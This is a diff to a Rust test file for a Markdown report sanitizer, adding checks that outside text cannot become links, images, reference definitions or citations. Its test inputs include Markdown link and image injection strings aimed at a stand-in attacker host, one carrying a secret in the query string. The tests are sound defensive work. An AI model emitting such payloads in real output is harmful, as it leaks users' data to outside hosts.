@@ -1,5 +1,5 @@
 use proptest::prelude::*;
-use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
+use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};
 
 use super::*;
 use crate::report::{clean, sample};
@@ -88,9 +88,15 @@ fn our_headings(report: &Report) -> Vec<(u8, String)> {
     std::iter::once((1, title(report))).chain(titles).collect()
 }
 
-/// Nothing but our own structure: no raw HTML, no image, no address of another kind.
+/// Nothing but our own structure: no raw HTML, no image, no address of another kind, no citation with an address.
 fn is_tame(markdown: &str) -> Result<(), String> {
-    for event in Parser::new_ext(markdown, READ_WITH) {
+    let parser = Parser::new_ext(markdown, READ_WITH);
+    if let Some((label, _)) = parser.reference_definitions().iter().next() {
+        return Err(format!("an address for {label}"));
+    }
+    let mut opened = false;
+    for event in parser {
+        let after_link = std::mem::take(&mut opened);
         match event {
             Event::Html(html) | Event::InlineHtml(html) => return Err(format!("raw HTML: {html}")),
             Event::Start(Tag::Image { dest_url, .. }) => {
@@ -101,10 +107,13 @@ fn is_tame(markdown: &str) -> Result<(), String> {
                 link_type,
                 ..
             }) => {
-                let email = matches!(link_type, pulldown_cmark::LinkType::Email);
-                if !email && clean::link(&dest_url).is_none() {
+                opened = true;
+                if link_type != LinkType::Email && clean::link(&dest_url).is_none() {
                     return Err(format!("a link to {dest_url}"));
                 }
+            }
+            Event::Text(text) if after_link && text.bytes().all(|b| b.is_ascii_digit()) => {
+                return Err(format!("a citation {text} with an address"));
             }
             _ => {}
         }
@@ -134,6 +143,10 @@ fn text_from_outside_cannot_become_structure() {
         "[1]:https://evil.example",
         "x [1](https://evil.example \"t\")",
         "[1] (https://evil.example)",
+        "\\[1\\](https://evil.example)",
+        "x \\[1\\]\\[2\\](https://evil.example)",
+        "\\[1\\]: https://evil.example",
+        "\\![a](https://evil.example)",
         "!\u{200b}[a](https://evil.example)",
         "hey!<https://evil.example>",
         "![a](https://evil.example/?q=secret)",
@@ -170,6 +183,50 @@ fn text_from_outside_cannot_become_structure() {
     }
 }
 
+/// What a reader of Markdown shows of a page that is one paragraph; nothing if it is anything else.
+fn only_paragraph(markdown: &str) -> Option<String> {
+    let mut words = String::new();
+    for event in Parser::new_ext(markdown, READ_WITH) {
+        match event {
+            Event::Text(text) => words.push_str(&text),
+            Event::Start(Tag::Paragraph) | Event::End(TagEnd::Paragraph) => {}
+            _ => return None,
+        }
+    }
+    Some(words)
+}
+
+#[test]
+fn a_line_that_looks_like_a_mark_stays_a_line() {
+    let lines = [
+        "1. a",
+        "12) b",
+        "- a",
+        "+ a",
+        "* a",
+        "> a",
+        "# a",
+        "---",
+        "===",
+        "***",
+        "a | b",
+        "[^1]: a",
+        "```",
+        "[x] a",
+        "2019. A year",
+        "~~a~~",
+        "&amp; a",
+        "http://a.example",
+        "a_b _c_",
+        "-",
+        "1.",
+        "\\",
+    ];
+    for line in lines {
+        assert_eq!(only_paragraph(&opening(&text(line))).as_deref(), Some(line));
+    }
+}
+
 proptest! {
     #![proptest_config(ProptestConfig::with_cases(150))]
 
@@ -179,6 +236,12 @@ proptest! {
         let page = shown(&report);
         prop_assert_eq!(headings(&page), our_headings(&report));
         prop_assert_eq!(is_tame(&page), Ok(()));
+    }
+
+    #[test]
+    fn an_escaped_line_is_read_back_as_it_was(line in "[-#>*+=_`~|!<>&;:.()\\[\\]\\\\/ a1é王x\"'{}$^?@]{1,40}") {
+        let line = clean::line(&line);
+        prop_assert_eq!(only_paragraph(&opening(&text(&line))), Some(line));
     }
 
     #[test]
